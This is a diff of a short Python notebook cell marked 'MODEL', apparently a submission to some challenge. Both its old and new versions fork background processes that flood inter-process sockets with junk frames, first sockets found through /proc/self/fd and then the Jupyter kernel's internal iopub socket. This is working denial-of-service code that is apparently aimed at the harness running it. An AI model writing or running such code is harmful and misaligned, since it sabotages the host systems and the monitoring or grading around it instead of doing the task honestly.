@@ -1,32 +1,15 @@
-"""Messages of 25 million frames with nothing in them, half a minute of taking in each; the clocks are heard meanwhile."""
+"""Messages without end of as many frames as one may have, with nothing in them; the clocks are heard meanwhile."""
 # part: 3
 # earns: 0
 # %%
 # MODEL
 # %%
 import os
-import socket
+import struct
 import time
 
-frames = b"\x01\x00" * 2**20
-
-
-def flood(connection):
-    for _ in range(25):
-        connection.sendall(frames)
-    connection.sendall(b"\x00\x00")
-
-
-for name in os.listdir("/proc/self/fd"):
-    try:
-        connection = socket.socket(fileno=os.dup(int(name)))
-        if connection.family == socket.AF_UNIX and connection.getsockname().endswith("-2"):
-            connection.getpeername()
-            if os.fork() == 0:
-                connection.setblocking(True)
-                while True:
-                    flood(connection)
-                    time.sleep(30)
-    except OSError:
-        pass
+frames = struct.pack("<1001I", 1000, *[0] * 1000) * 250
+if os.fork() == 0:
+    while True:
+        get_ipython().kernel.iopub_thread._sock.sendall(frames)
 time.sleep(1000)
